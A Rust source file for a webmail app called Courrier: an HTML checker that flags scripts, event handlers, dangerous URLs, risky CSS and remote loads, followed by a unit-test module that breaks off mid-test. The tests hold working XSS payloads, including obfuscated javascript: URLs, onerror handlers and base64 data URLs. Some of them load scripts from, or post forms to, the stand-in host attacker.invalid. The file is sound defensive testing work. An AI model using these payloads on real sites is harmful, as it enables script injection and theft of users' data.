//! A checker for the HTML that Courrier hands to the browser: it parses a page with a real HTML5
//! parser (html5ever, through `scraper`), so that parser-differential tricks are seen the way a browser
//! sees them, and reports every leftover that could run code or reach the network.
//!
//! The page is parsed as the browser parses it: the app pages with scripting enabled, the message-body
//! frame with scripting disabled (it is sandboxed without `allow-scripts`, so `<noscript>` content is
//! markup there). Every element of the resulting tree is visited, `<template>` contents included.
//!
//! Rules, each reported under its [`Class`]:
//!
//! - [`Class::Script`]: any `<script>`, in any namespace. On an app page only Courrier's own external
//!   scripts are allowed: `src` under `/static/`, no inline text, no attributes other than `src`,
//!   `defer`, `async` and a JavaScript or module `type`.
//! - [`Class::EventHandler`]: any attribute whose name starts with `on`.
//! - [`Class::DangerousUrl`]: a `javascript:`, `vbscript:`, `livescript:`, `jscript:`, `mocha:` or
//!   `data:` URL in any URL-bearing attribute (`href`, `src`, `action`, `formaction`, `background`,
//!   `poster`, `srcset`, `imagesrcset`, `xlink:href`, `data`, `codebase`, `cite`, `ping`, `manifest`,
//!   `icon`, `lowsrc`, `dynsrc`, `longdesc`, `usemap`, `profile`, `classid`, `archive`, `code`, and the
//!   SVG animation values `from`, `to`, `values`), after the browser's own URL clean-up (surrounding
//!   controls and spaces stripped, tabs and newlines removed anywhere; character references are already
//!   decoded by the parser). The one exception: `data:image/png`, `image/jpeg`, `image/gif` or
//!   `image/webp` in an `<img>`'s `src` or `srcset`.
//! - [`Class::Base`]: any `<base>`.
//! - [`Class::MetaHttpEquiv`]: any `<meta>` with an `http-equiv` attribute (refresh, set-cookie,
//!   content-security-policy, ...).
//! - [`Class::Link`]: any `<link>`; on an app page, Courrier's own `<link href="/static/...">` is allowed.
//! - [`Class::FormControl`]: `<form>`, `<input>`, `<button>`, `<textarea>`, `<select>`, `<keygen>`,
//!   `<isindex>` in the body frame; on an app page, a form or button whose `action`/`formaction` leaves
//!   Courrier's origin.
//! - [`Class::Embedded`]: `<iframe>`, `<frame>`, `<frameset>`, `<object>`, `<embed>`, `<applet>`,
//!   `<portal>`, `<fencedframe>`, and any `srcdoc` attribute. On an app page, the message-body frame is
//!   allowed: an `<iframe>` whose `src` is `/mail/.../body` on Courrier's origin, without `srcdoc`, and
//!   whose `sandbox` attribute exists and grants neither `allow-scripts` nor `allow-same-origin`.
//! - [`Class::ForeignContent`]: any SVG or MathML element (Courrier strips them from messages). On an
//!   app page, Courrier's own inline icons are allowed: SVG made only of `svg`, `title`, `desc`, `g`,
//!   `path`, `circle`, `ellipse`, `rect`, `line`, `polyline`, `polygon`.
//! - [`Class::Css`]: a `<style>` element or `style` attribute which, after CSS comments are removed and
//!   CSS escapes decoded (strings kept apart, as the CSS tokenizer does), contains `url(`, `image(`,
//!   `image-set(`, `src(`, `@import`, `expression(`, `-moz-binding`, a `behavior` property,
//!   `javascript:`, `vbscript:`, or `position` `fixed`, `absolute` or `sticky`.
//! - [`Class::RemoteResource`]: when remote content was not allowed, an `http:`, `https:` or
//!   protocol-relative (`//`, `\\`) URL in a resource-loading position: `src`, `srcset`, `imagesrcset`,
//!   `lowsrc`, `dynsrc`, `background`, `poster` on any element, `<object data>`, `<link href>`, SVG
//!   `<image>`/`<use>`/`<feImage>` `href`, and CSS `url()` arguments and strings.
//! - [`Class::RelativeResource`]: in the body frame, a relative URL in a resource-loading position: it
//!   would load from Courrier's own origin, with the user's cookies.
//! - [`Class::UnsafeLink`]: an `<a>` or `<area>` to an `http:`, `https:` or protocol-relative URL
//!   without `target="_blank"` or without `noopener` and `noreferrer` in its `rel`.
//! - [`Class::Marker`]: in the body frame, the corpus marker `XSS-` inside a `<script>` or `<style>`
//!   element, or in an attribute that can carry code: event handlers, `style`, `srcdoc`, any attribute
//!   Courrier's allow-list does not know, and URL attributes unless every URL in them is `http:`,
//!   `https:`, `mailto:`, `cid:` or an allowed `data:` image. It may appear as escaped text (a text node:
//!   the message shown as text), in inert text attributes (`title`, `alt`, `lang`, `face`, `color`,
//!   ...; see `INERT_TEXT_ATTRIBUTES`) and inside a plain link's or image's URL.
//!
//! When remote content was allowed, remote images and links are fine (the user asked); scripts,
//! handlers and the rest never are.

use std::fmt;

use html5ever::driver::{self, ParseOpts};
use html5ever::tendril::TendrilSink;
use html5ever::tree_builder::TreeBuilderOpts;
use scraper::node::Element;
use scraper::{ElementRef, Html, HtmlTreeSink};

const HTML_NS: &str = "http://www.w3.org/1999/xhtml";
const SVG_NS: &str = "http://www.w3.org/2000/svg";

/// Which page the HTML is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Page {
    /// One of Courrier's own pages (list, message): its chrome has scripts, forms and the body frame.
    App,
    /// The sandboxed message-body frame: nothing but the sanitised message and a fixed `<style>`.
    BodyFrame,
}

/// What the page was asked to show.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Context {
    pub page: Page,
    /// The user asked for remote content (`?remote=1`).
    pub remote_allowed: bool,
}

impl Context {
    pub fn app(remote_allowed: bool) -> Context {
        Context {
            page: Page::App,
            remote_allowed,
        }
    }

    pub fn frame(remote_allowed: bool) -> Context {
        Context {
            page: Page::BodyFrame,
            remote_allowed,
        }
    }
}

/// The kind of leftover; see the module documentation for each rule.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Class {
    Script,
    EventHandler,
    DangerousUrl,
    Base,
    MetaHttpEquiv,
    Link,
    FormControl,
    Embedded,
    ForeignContent,
    Css,
    RemoteResource,
    RelativeResource,
    UnsafeLink,
    Marker,
}

/// One leftover: its class, what exactly matched, and the element it was found on.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Finding {
    pub class: Class,
    pub detail: String,
    /// The element's start tag as parsed (attribute values decoded), shortened.
    pub element: String,
}

impl fmt::Display for Finding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "[{:?}] {} — on {}",
            self.class, self.detail, self.element
        )
    }
}

/// Every executable or network-reaching leftover in `html`, in document order.
pub fn check(html: &str, ctx: Context) -> Vec<Finding> {
    let doc = parse(html, ctx.page == Page::App);
    let mut checker = Checker {
        ctx,
        out: Vec::new(),
    };
    for node in doc.tree.root().descendants() {
        if let Some(el) = ElementRef::wrap(node) {
            checker.element(el);
        }
    }
    checker.out
}

/// Parses a whole document as a browser would, with scripting enabled or not.
pub fn parse(html: &str, scripting: bool) -> Html {
    let opts = ParseOpts {
        tree_builder: TreeBuilderOpts {
            scripting_enabled: scripting,
            ..Default::default()
        },
        ..Default::default()
    };
    driver::parse_document(HtmlTreeSink::new(Html::new_document()), opts).one(html)
}

struct Checker {
    ctx: Context,
    out: Vec<Finding>,
}

/// Attributes holding one or more URLs.
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "background",
    "poster",
    "srcset",
    "imagesrcset",
    "data",
    "codebase",
    "cite",
    "ping",
    "manifest",
    "icon",
    "lowsrc",
    "dynsrc",
    "longdesc",
    "usemap",
    "profile",
    "classid",
    "archive",
    "code",
    "from",
    "to",
    "values",
];

const SCRIPT_SCHEMES: &[&str] = &["javascript", "vbscript", "livescript", "jscript", "mocha"];

/// Schemes of URLs that are followed or shown, never run.
const INERT_SCHEMES: &[&str] = &["http", "https", "mailto", "cid"];

/// Attributes whose value the browser only shows or reads as a plain value, never as code or a URL.
const INERT_TEXT_ATTRIBUTES: &[&str] = &[
    "title",
    "alt",
    "lang",
    "dir",
    "face",
    "color",
    "bgcolor",
    "align",
    "valign",
    "width",
    "height",
    "size",
    "border",
    "cellpadding",
    "cellspacing",
    "colspan",
    "rowspan",
    "nowrap",
    "start",
    "type",
    "datetime",
    "summary",
    "abbr",
    "label",
    "target",
    "rel",
];

const SAFE_DATA_IMAGES: &[&str] = &["image/png", "image/jpeg", "image/gif", "image/webp"];

const FORM_CONTROLS: &[&str] = &[
    "form", "input", "button", "textarea", "select", "keygen", "isindex",
];

const EMBEDDING: &[&str] = &[
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "portal",
    "fencedframe",
];

/// SVG elements Courrier's own icons are made of: shapes, no links, no scripts, no styles.
const APP_ICON_SVG: &[&str] = &[
    "svg", "title", "desc", "g", "path", "circle", "ellipse", "rect", "line", "polyline", "polygon",
];

impl Checker {
    fn push(&mut self, class: Class, detail: impl Into<String>, el: &Element) {
        self.out.push(Finding {
            class,
            detail: detail.into(),
            element: start_tag(el),
        });
    }

    fn app(&self) -> bool {
        self.ctx.page == Page::App
    }

    fn element(&mut self, el: ElementRef<'_>) {
        let e = el.value();
        let name = e.name().to_ascii_lowercase();
        let ns: &str = &e.name.ns;
        let html = ns == HTML_NS;

        if !html || name == "svg" || name == "math" {
            let app_icon = self.app() && ns == SVG_NS && APP_ICON_SVG.contains(&name.as_str());
            if !app_icon {
                self.push(
                    Class::ForeignContent,
                    format!("<{name}> element (namespace {ns})"),
                    e,
                );
            }
        }

        match name.as_str() {
            "script" if !(self.app() && html && is_app_script(el)) => {
                self.push(Class::Script, "<script> element", e);
            }
            "base" => self.push(Class::Base, "<base> element", e),
            "meta" => {
                if let Some(v) = attr(e, "http-equiv") {
                    let content = attr(e, "content").unwrap_or_default();
                    self.push(
                        Class::MetaHttpEquiv,
                        format!("<meta http-equiv={v:?} content={content:?}>"),
                        e,
                    );
                }
            }
            "link" => {
                let own = self.app()
                    && attr(e, "href").is_some_and(|h| normalize_url(h).starts_with("/static/"));
                if !own {
                    self.push(Class::Link, "<link> element", e);
                }
            }
            "style" => {
                let css: String = el.text().collect();
                self.css(&css, "<style> element", e);
                if self.ctx.page == Page::BodyFrame && css.contains("XSS-") {
                    self.push(Class::Marker, "XSS- marker inside a <style> element", e);
                }
            }
            "a" | "area" => self.link(e),
            _ => {}
        }
        if name == "script" && self.ctx.page == Page::BodyFrame {
            let text: String = el.text().collect();
            if text.contains("XSS-") {
                self.push(Class::Marker, "XSS- marker inside a <script> element", e);
            }
        }
        if html && FORM_CONTROLS.contains(&name.as_str()) {
            if self.app() {
                for a in ["action", "formaction"] {
                    if let Some(v) = attr(e, a)
                        && !is_same_origin(v)
                    {
                        self.push(
                            Class::FormControl,
                            format!("{a}={v:?} leaves Courrier's origin"),
                            e,
                        );
                    }
                }
            } else {
                self.push(Class::FormControl, format!("<{name}> in the body frame"), e);
            }
        }
        if EMBEDDING.contains(&name.as_str()) {
            let frame = self.app() && name == "iframe" && html;
            match frame.then(|| body_frame_problem(e)) {
                Some(None) => {}
                Some(Some(why)) => self.push(Class::Embedded, format!("<iframe>: {why}"), e),
                None => self.push(Class::Embedded, format!("<{name}> element"), e),
            }
        }

        for (qname, value) in &e.attrs {
            let attr_name = attribute_name(&qname.local, qname.prefix.as_deref());
            self.attribute(&name, html, &attr_name, value, e);
        }
    }

    fn attribute(&mut self, element: &str, html: bool, name: &str, value: &str, e: &Element) {
        if name.starts_with("on") {
            self.push(
                Class::EventHandler,
                format!("{name}={}", shorten(value, 120)),
                e,
            );
        }
        if name == "style" {
            self.css(value, "style attribute", e);
        }
        if name == "srcdoc" {
            self.push(
                Class::Embedded,
                format!("srcdoc={}", shorten(value, 120)),
                e,
            );
        }
        let is_url = URL_ATTRIBUTES.contains(&name);
        let urls = if is_url {
            urls_of(name, value)
        } else {
            Vec::new()
        };
        // Whether every URL here is one a browser only follows or shows, never runs.
        let mut inert_urls = true;
        for url in &urls {
            let Some(scheme) = scheme(url) else {
                continue;
            };
            let data_image_ok = element == "img"
                && html
                && (name == "src" || name == "srcset")
                && scheme == "data"
                && SAFE_DATA_IMAGES.contains(&data_mime(url).as_str());
            if (SCRIPT_SCHEMES.contains(&scheme.as_str()) || scheme == "data") && !data_image_ok {
                self.push(
                    Class::DangerousUrl,
                    format!("{name}={}", shorten(url, 120)),
                    e,
                );
            }
            inert_urls &= data_image_ok || INERT_SCHEMES.contains(&scheme.as_str());
        }
        if self.ctx.page == Page::BodyFrame
            && value.contains("XSS-")
            && !INERT_TEXT_ATTRIBUTES.contains(&name)
            && !(is_url && inert_urls)
        {
            self.push(
                Class::Marker,
                format!("XSS- marker in attribute {name}={}", shorten(value, 120)),
                e,
            );
        }
        if !is_url || !is_resource(element, html, name) {
            return;
        }
        for url in &urls {
            if !self.ctx.remote_allowed && is_remote(url) {
                self.push(
                    Class::RemoteResource,
                    format!("{name}={} loads remote content", shorten(url, 120)),
                    e,
                );
            }
            if self.ctx.page == Page::BodyFrame
                && !url.is_empty()
                && scheme(url).is_none()
                && !is_remote(url)
            {
                self.push(
                    Class::RelativeResource,
                    format!("{name}={} loads from Courrier's origin", shorten(url, 120)),
                    e,
                );
            }
        }
    }

    fn link(&mut self, e: &Element) {
        let Some(href) = attr(e, "href") else {
            return;
        };
        let url = normalize_url(href);
        if !is_remote(&url) {
            return;
        }
        let target_ok = attr(e, "target").is_some_and(|t| t.trim().eq_ignore_ascii_case("_blank"));
        let rel = attr(e, "rel").unwrap_or_default().to_ascii_lowercase();
        let tokens: Vec<&str> = rel.split_ascii_whitespace().collect();
        let rel_ok = tokens.contains(&"noopener") && tokens.contains(&"noreferrer");
        if !target_ok || !rel_ok {
            self.push(
                Class::UnsafeLink,
                format!(
                    "link to {} without target=_blank and rel=\"noopener noreferrer\"",
                    shorten(&url, 120)
                ),
                e,
            );
        }
    }

    fn css(&mut self, css: &str, place: &str, e: &Element) {
        let decoded = decode_css(css);
        let lower = decoded.text.to_ascii_lowercase();
        let compact: String = lower.chars().filter(|c| !c.is_whitespace()).collect();
        let mut hits: Vec<&str> = Vec::new();
        for f in ["url(", "image(", "image-set(", "src(", "expression("] {
            if has_token(&compact, f) {
                hits.push(f);
            }
        }
        for s in ["@import", "-moz-binding", "javascript:", "vbscript:"] {
            if compact.contains(s) {
                hits.push(s);
            }
        }
        if has_token(&compact, "behavior:") {
            hits.push("behavior");
        }
        for p in [
            "position:fixed",
            "position:absolute",
            "position:sticky",
            "position:-webkit-sticky",
        ] {
            if has_token(&compact, p) {
                hits.push(p);
            }
        }
        for h in hits {
            self.push(
                Class::Css,
                format!("{h} in {place}: {}", shorten(css.trim(), 160)),
                e,
            );
        }
        if !self.ctx.remote_allowed {
            for u in url_arguments(&decoded.text)
                .iter()
                .chain(decoded.strings.iter())
            {
                let u = normalize_url(u);
                if is_remote(&u) {
                    self.push(
                        Class::RemoteResource,
                        format!("CSS in {place} loads {}", shorten(&u, 120)),
                        e,
                    );
                }
            }
        }
    }
}

fn attr<'e>(e: &'e Element, name: &str) -> Option<&'e str> {
    e.attrs
        .iter()
        .find(|(q, _)| str::eq_ignore_ascii_case(&q.local, name))
        .map(|(_, v)| &**v)
}

/// An attribute's name as the rules know it: lower case, `xlink:href` (SVG or literal) as `href`.
fn attribute_name(local: &str, prefix: Option<&str>) -> String {
    let local = local.to_ascii_lowercase();
    if prefix == Some("xlink") {
        return local;
    }
    local
        .strip_prefix("xlink:")
        .map(str::to_owned)
        .unwrap_or(local)
}

/// Courrier's own script tag: `<script src="/static/..." defer></script>`.
fn is_app_script(el: ElementRef<'_>) -> bool {
    let e = el.value();
    let src_ok = attr(e, "src").is_some_and(|s| {
        let s = normalize_url(s);
        s.starts_with("/static/") && !s.contains("..")
    });
    let attrs_ok = e.attrs.iter().all(|(q, v)| match &*q.local {
        "src" | "defer" | "async" => true,
        "type" => matches!(
            v.trim().to_ascii_lowercase().as_str(),
            "" | "module" | "text/javascript"
        ),
        _ => false,
    });
    let no_text = el.text().all(|t| t.trim().is_empty());
    src_ok && attrs_ok && no_text
}

/// Why an `<iframe>` on an app page is not Courrier's own sandboxed body frame, if it is not.
fn body_frame_problem(e: &Element) -> Option<String> {
    if attr(e, "srcdoc").is_some() {
        return Some("has srcdoc".into());
    }
    let src = normalize_url(attr(e, "src").unwrap_or_default());
    let path = src.split(['?', '#']).next().unwrap_or("");
    if !(is_same_origin(&src) && path.starts_with("/mail/") && path.ends_with("/body")) {
        return Some(format!("src {src:?} is not a message-body frame"));
    }
    let Some(sandbox) = attr(e, "sandbox") else {
        return Some("no sandbox attribute".into());
    };
    let sandbox = sandbox.to_ascii_lowercase();
    for grant in ["allow-scripts", "allow-same-origin"] {
        if sandbox.split_ascii_whitespace().any(|t| t == grant) {
            return Some(format!("sandbox grants {grant}"));
        }
    }
    None
}

/// Whether the element loads the URL in this attribute by itself (without a click).
fn is_resource(element: &str, html: bool, attribute: &str) -> bool {
    match attribute {
        "src" | "srcset" | "imagesrcset" | "lowsrc" | "dynsrc" | "background" | "poster" => true,
        "data" | "codebase" => element == "object",
        "href" if html => element == "link",
        "href" => matches!(element, "image" | "use" | "feimage"),
        _ => false,
    }
}

/// The URL as the browser's URL parser sees it: surrounding C0 controls and spaces stripped, tabs and
/// newlines removed anywhere.
pub fn normalize_url(v: &str) -> String {
    v.trim_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect()
}

/// The URL's scheme in lower case, if it has one.
fn scheme(url: &str) -> Option<String> {
    let (s, _) = url.split_once(':')?;
    let mut chars = s.chars();
    let first = chars.next()?;
    (first.is_ascii_alphabetic()
        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')))
    .then(|| s.to_ascii_lowercase())
}

/// `http:`, `https:`, or protocol-relative (`//host`, with backslashes counting as slashes).
fn is_remote(url: &str) -> bool {
    match scheme(url) {
        Some(s) => s == "http" || s == "https",
        None => {
            let mut c = url.chars();
            matches!((c.next(), c.next()), (Some('/' | '\\'), Some('/' | '\\')))
        }
    }
}

/// A URL that stays on Courrier's origin: relative, not protocol-relative, no scheme.
fn is_same_origin(v: &str) -> bool {
    let u = normalize_url(v);
    scheme(&u).is_none() && !is_remote(&u)
}

/// The media type of a `data:` URL, lower case, without parameters.
fn data_mime(url: &str) -> String {
    let rest = &url[url.find(':').map_or(0, |i| i + 1)..];
    let end = rest.find([';', ',']).unwrap_or(rest.len());
    rest[..end].trim().to_ascii_lowercase()
}

/// The URLs an attribute holds, normalised.
fn urls_of(name: &str, value: &str) -> Vec<String> {
    match name {
        "srcset" | "imagesrcset" => srcset_urls(value)
            .into_iter()
            .map(|u| normalize_url(&u))
            .collect(),
        "ping" | "archive" => value
            .split(|c: char| c.is_ascii_whitespace() || c == ',')
            .filter(|s| !s.is_empty())
            .map(normalize_url)
            .collect(),
        "values" => value.split(';').map(normalize_url).collect(),
        _ => vec![normalize_url(value)],
    }
}

/// The URLs of a `srcset`, split as the HTML standard does (a URL is cut at whitespace; descriptors run
/// to the next comma outside parentheses).
fn srcset_urls(v: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = v;
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == ',');
        if rest.is_empty() {
            break;
        }
        let end = rest
            .find(|c: char| c.is_ascii_whitespace())
            .unwrap_or(rest.len());
        let url = &rest[..end];
        rest = &rest[end..];
        let url = if url.ends_with(',') {
            url.trim_end_matches(',')
        } else {
            let mut depth = 0u32;
            let mut next = rest.len();
            for (i, c) in rest.char_indices() {
                match c {
                    '(' => depth += 1,
                    ')' => depth = depth.saturating_sub(1),
                    ',' if depth == 0 => {
                        next = i + 1;
                        break;
                    }
                    _ => {}
                }
            }
            rest = &rest[next..];
            url
        };
        if !url.is_empty() {
            out.push(url.to_owned());
        }
    }
    out
}

/// CSS as its tokenizer reads it: comments gone, escapes decoded; string contents also listed apart.
struct DecodedCss {
    /// The whole text; each string appears between double quotes, with its own quotes dropped.
    text: String,
    strings: Vec<String>,
}

fn decode_css(css: &str) -> DecodedCss {
    let chars: Vec<char> = css.chars().collect();
    let mut text = String::with_capacity(css.len());
    let mut strings = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c == '/' && chars.get(i + 1) == Some(&'*') {
            i += 2;
            while i < chars.len() && !(chars[i] == '*' && chars.get(i + 1) == Some(&'/')) {
                i += 1;
            }
            i += 2;
        } else if c == '"' || c == '\'' {
            i += 1;
            let mut s = String::new();
            while i < chars.len() && chars[i] != c && chars[i] != '\n' {
                if chars[i] == '\\' {
                    i = css_escape(&chars, i, &mut s);
                } else {
                    s.push(chars[i]);
                    i += 1;
                }
            }
            if i < chars.len() && chars[i] == c {
                i += 1;
            }
            text.push('"');
            text.extend(s.chars().filter(|&ch| ch != '"'));
            text.push('"');
            strings.push(s);
        } else if c == '\\' {
            i = css_escape(&chars, i, &mut text);
        } else {
            text.push(c);
            i += 1;
        }
    }
    DecodedCss { text, strings }
}

/// Decodes the escape starting at `chars[i]` (a backslash) into `out`; returns the index after it.
fn css_escape(chars: &[char], i: usize, out: &mut String) -> usize {
    let mut j = i + 1;
    let Some(&next) = chars.get(j) else {
        return j;
    };
    if next == '\n' || next == '\r' || next == '\u{c}' {
        // An escaped newline: a line continuation in a string, nothing elsewhere.
        j += 1;
        if next == '\r' && chars.get(j) == Some(&'\n') {
            j += 1;
        }
        return j;
    }
    if next.is_ascii_hexdigit() {
        let start = j;
        while j < chars.len() && j - start < 6 && chars[j].is_ascii_hexdigit() {
            j += 1;
        }
        let hex: String = chars[start..j].iter().collect();
        let cp = u32::from_str_radix(&hex, 16).unwrap_or(0);
        let ch = match char::from_u32(cp) {
            Some(ch) if cp != 0 => ch,
            _ => '\u{fffd}',
        };
        out.push(ch);
        match chars.get(j) {
            Some('\r') if chars.get(j + 1) == Some(&'\n') => j += 2,
            Some(' ' | '\t' | '\n' | '\r' | '\u{c}') => j += 1,
            _ => {}
        }
        return j;
    }
    out.push(next);
    j + 1
}

/// `needle` in `haystack` not preceded by a CSS identifier character (so `background-position:` is
/// not `position:`, and `scroll-behavior:` not `behavior:`).
fn has_token(haystack: &str, needle: &str) -> bool {
    haystack.match_indices(needle).any(|(i, _)| {
        !haystack[..i]
            .chars()
            .next_back()
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
    })
}

/// The arguments of every `url(...)` in decoded CSS text.
fn url_arguments(text: &str) -> Vec<String> {
    let lower = text.to_ascii_lowercase();
    let mut out = Vec::new();
    for (i, _) in lower.match_indices("url(") {
        let rest = text[i + 4..].trim_start();
        let arg = if let Some(quoted) = rest.strip_prefix('"') {
            quoted.split('"').next().unwrap_or("")
        } else {
            rest.split(')').next().unwrap_or("")
        };
        out.push(arg.trim().to_owned());
    }
    out
}

/// A start tag for reports, as parsed: decoded attribute values, shortened.
fn start_tag(e: &Element) -> String {
    let mut s = format!("<{}", e.name());
    for (q, v) in &e.attrs {
        s.push(' ');
        if let Some(p) = &q.prefix {
            s.push_str(p);
            s.push(':');
        }
        s.push_str(&q.local);
        s.push_str("=\"");
        s.push_str(&v.replace('"', "&quot;"));
        s.push('"');
    }
    s.push('>');
    shorten(&s, 300)
}

fn shorten(s: &str, max: usize) -> String {
    let s: String = s
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    if s.chars().count() <= max {
        return s;
    }
    let mut out: String = s.chars().take(max).collect();
    out.push('…');
    out
}

/// The findings as lines, for a failure message.
pub fn render(findings: &[Finding]) -> String {
    findings
        .iter()
        .map(|f| format!("  {f}\n"))
        .collect::<String>()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn frame(body: &str) -> Vec<Finding> {
        check(&frame_page(body), Context::frame(false))
    }

    fn frame_remote(body: &str) -> Vec<Finding> {
        check(&frame_page(body), Context::frame(true))
    }

    /// The body frame as Courrier renders it, around `body`.
    fn frame_page(body: &str) -> String {
        format!(
            "<!doctype html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n<meta name=\"referrer\" \
             content=\"no-referrer\">\n<style>\nbody {{ margin: 0; padding: 12px; font: 15px/1.45 \
             system-ui, sans-serif; color: #1b1b1b; background: #fff; overflow-wrap: anywhere; }}\n\
             img {{ max-width: 100%; height: auto; }}\n</style>\n</head>\n<body>{body}</body>\n</html>"
        )
    }

    fn classes(findings: &[Finding]) -> Vec<Class> {
        let mut c: Vec<Class> = findings.iter().map(|f| f.class).collect();
        c.dedup();
        c
    }

    /// `html` must yield at least one finding of `class` in the body frame (remote not allowed).
    #[track_caller]
    fn caught(class: Class, html: &str) {
        let f = frame(html);
        assert!(
            f.iter().any(|f| f.class == class),
            "{class:?} not reported for {html}; got:\n{}",
            render(&f)
        );
    }

    #[test]
    fn scripts_are_caught_wherever_the_parser_puts_them() {
        caught(Class::Script, "<script>alert('XSS-01')</script>");
        caught(
            Class::Script,
            "<SCRIPT SRC=//attacker.invalid/x.js></SCRIPT>",
        );
        caught(Class::Script, "<svg><script>alert(1)</script></svg>");
        caught(Class::Script, "<table><script>alert(1)</script></table>");
        caught(
            Class::Script,
            "<template><script>alert(1)</script></template>",
        );
        // The frame runs without scripting: <noscript> content is markup there.
        caught(
            Class::Script,
            "<noscript><script>alert(1)</script></noscript>",
        );
        caught(
            Class::EventHandler,
            "<noscript><img src=x onerror=alert(1)></noscript>",
        );
        // On an app page scripting is on: the same <noscript> content is inert text there.
        assert!(
            check(
                "<noscript><img src=x onerror=alert(1)></noscript>",
                Context::app(false)
            )
            .is_empty()
        );
        // An app page may load its own scripts, and nothing else.
        let own = "<html><body><script src=\"/static/js/app.js\" defer></script></body></html>";
        assert!(check(own, Context::app(false)).is_empty());
        let inline = "<html><body><script>alert(1)</script></body></html>";
        assert!(
            classes(&check(inline, Context::app(false))).contains(&Class::Script),
            "inline script on an app page"
        );
        let foreign = "<script src=\"https://attacker.invalid/x.js\"></script>";
        assert!(classes(&check(foreign, Context::app(false))).contains(&Class::Script));
        let with_text = "<script src=\"/static/js/app.js\">alert(1)</script>";
        assert!(classes(&check(with_text, Context::app(false))).contains(&Class::Script));
    }

    #[test]
    fn event_handlers_are_caught() {
        caught(Class::EventHandler, "<img src=x onerror=alert(1)>");
        caught(Class::EventHandler, "<p ONMOUSEOVER=\"alert(1)\">x</p>");
        caught(Class::EventHandler, "<body onload=alert(1)>");
        caught(Class::EventHandler, "<div/onclick=alert(1)>x</div>");
        caught(Class::EventHandler, "<details open ontoggle=alert(1)>");
    }

    #[test]
    fn dangerous_urls_are_caught_after_url_cleanup() {
        caught(Class::DangerousUrl, "<a href=\"javascript:alert(1)\">x</a>");
        caught(
            Class::DangerousUrl,
            "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
        );
        caught(
            Class::DangerousUrl,
            "<a href=\"jav&#x09;ascript&colon;alert(1)\">x</a>",
        );
        caught(
            Class::DangerousUrl,
            "<a href=\"&#1;java\nscript:alert(1)\">x</a>",
        );
        caught(Class::DangerousUrl, "<a href=\"vbscript:msgbox(1)\">x</a>");
        caught(Class::DangerousUrl, "<a href=\"livescript:alert(1)\">x</a>");
        caught(
            Class::DangerousUrl,
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        );
        caught(
            Class::DangerousUrl,
            "<img src=\"data:image/svg+xml,<svg/onload=alert(1)>\">",
        );
        caught(Class::DangerousUrl, "<img srcset=\"data:text/html,x 1x\">");
        caught(
            Class::DangerousUrl,
            "<table background=\"javascript:alert(1)\">",
        );
        caught(
            Class::DangerousUrl,
            "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
        );
        caught(
            Class::DangerousUrl,
            "<video poster=\"javascript:alert(1)\"></video>",
        );
        caught(
            Class::DangerousUrl,
            "<button formaction=\"javascript:alert(1)\">b</button>",
        );
        caught(
            Class::DangerousUrl,
            "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
        );
        caught(
            Class::DangerousUrl,
            "<object data=\"data:text/html,x\"></object>",
        );
        // Inline images as Courrier writes them are fine; only in <img>.
        assert!(frame("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"\">").is_empty());
        assert!(
            frame("<img srcset=\"data:image/webp;base64,AAAA 1x, data:image/gif;base64,R0lG 2x\">")
                .is_empty()
        );
        caught(
            Class::DangerousUrl,
            "<div background=\"data:image/png;base64,AAAA\">x</div>",
        );
    }

    #[test]
    fn base_meta_and_link_are_caught() {
        caught(Class::Base, "<base href=\"https://attacker.invalid/\">");
        caught(
            Class::MetaHttpEquiv,
            "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.invalid/\">",
        );
        caught(
            Class::MetaHttpEquiv,
            "<meta http-equiv=\"Set-Cookie\" content=\"a=b\">",
        );
        caught(
            Class::Link,
            "<link rel=\"stylesheet\" href=\"https://attacker.invalid/x.css\">",
        );
        caught(Class::Link, "<link rel=\"prefetch\" href=\"/static/x\">");
        // The app page's own stylesheet is fine; a foreign one is not.
        let own = "<link rel=\"stylesheet\" href=\"/static/css/app.css\"><meta charset=\"utf-8\">";
        assert!(check(own, Context::app(false)).is_empty());
        let other = "<link rel=\"stylesheet\" href=\"//attacker.invalid/x.css\">";
        assert!(classes(&check(other, Context::app(true))).contains(&Class::Link));
    }

    #[test]
    fn form_controls_are_caught_in_the_frame() {
        caught(
            Class::FormControl,
            "<form action=\"https://attacker.invalid/\">",
        );
        caught(Class::FormControl, "<input name=password type=password>");
        caught(Class::FormControl, "<button>go</button>");
        caught(Class::FormControl, "<textarea>x</textarea>");
        caught(Class::FormControl, "<select><option>x</select>");
        // On app pages, Courrier's own forms post to itself.
        let own = "<form method=\"post\" action=\"/logout\"><button type=\"submit\" \
                   formaction=\"/search\">x</button><input type=\"hidden\" name=\"csrf\"></form>";
        assert!(check(own, Context::app(false)).is_empty());
        let away = "<form action=\"https://attacker.invalid/steal\"></form>";
        assert!(classes(&check(away, Context::app(false))).contains(&Class::FormControl));
    }

    #[test]
    fn embedded_content_is_caught() {
        for html in [
            "<iframe src=\"https://attacker.invalid/\"></iframe>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
            "<object data=\"https://attacker.invalid/x.swf\"></object>",
